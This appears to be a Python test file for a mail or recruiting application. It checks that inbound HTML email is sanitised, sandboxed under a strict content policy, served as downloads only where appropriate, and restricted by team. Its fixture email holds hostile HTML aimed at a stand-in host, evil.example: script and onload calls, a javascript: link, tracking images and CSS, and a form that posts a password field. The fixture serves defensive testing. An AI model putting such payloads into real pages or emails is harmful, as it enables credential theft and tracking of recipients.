"""What strangers send us is shown without anything in it that acts, calls home or opens by itself."""

from builders import add_candidate, add_inbound_mail, add_mailbox

from sequencer.store.candidates import add_to_team
from sequencer.store.users import UserRole

HOSTILE = b"""From: lena@brandt.example
To: ada@acme.example
Subject: Hello
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=x

--x
Content-Type: text/html; charset=utf-8

<html><head><style>p{background:url(https://evil.example/a)}</style></head><body onload="steal()">
<p style="background:url(//evil.example/b)">Happy to <b>talk</b>.</p><img src="https://evil.example/pixel.png">
<script>steal()</script><form action="https://evil.example"><input name="password"></form>
<a href="javascript:steal()">one</a> <a href="https://lena.example/cv">two</a></body></html>
--x
Content-Type: text/html; name="cv.html"
Content-Disposition: attachment; filename="cv.html"

<script>steal()</script>
--x--
"""


def letter(desk, **values):
    return add_inbound_mail(desk.road, add_mailbox(desk.road), HOSTILE, **values)


def test_html_is_cleaned_and_shut_into_a_frame_of_its_own(desk):
    mail_id = letter(desk)

    answer = desk.browser().get(f"/mails/{mail_id}/html")

    policy = answer.headers["Content-Security-Policy"]
    assert "Happy to <b>talk</b>." in answer.text
    assert "lena.example/cv" in answer.text
    for word in ("steal", "evil.example", "<img", "<form", "<input", "<style", "onload"):
        assert word not in answer.text
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"


def test_files_and_the_raw_mail_are_only_ever_downloads(desk):
    mail_id, browser = letter(desk), desk.browser()

    for address in (f"/mails/{mail_id}/raw", f"/mails/{mail_id}/files/0"):
        answer = browser.get(address)
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.mimetype == "application/octet-stream"
    assert browser.get(f"/mails/{mail_id}/raw").data == HOSTILE
    assert browser.get(f"/mails/{mail_id}/files/0").data.strip() == b"<script>steal()</script>"
    assert browser.get(f"/mails/{mail_id}/files/1").status_code == 404


def test_a_mail_of_another_teams_person_is_not_there(desk):
    lena = add_candidate(desk.road)
    platform = desk.team("Platform")
    with desk.road.database.write() as session:
        add_to_team(session, [lena], platform)
    mail_id = letter(desk, candidate_id=lena)

    for what in ("html", "raw", "files/0"):
        assert desk.browser(UserRole.RECRUITER, "Robotics").get(f"/mails/{mail_id}/{what}").status_code == 404
        assert desk.browser(UserRole.ADMINISTRATOR).get(f"/mails/{mail_id}/{what}").status_code == 200


def test_what_cannot_be_read_says_so(desk):
    mail_id = add_inbound_mail(desk.road, add_mailbox(desk.road), b"\r\nno headers")

    assert "We cannot read this mail" in desk.browser().get(f"/mails/{mail_id}/html").text
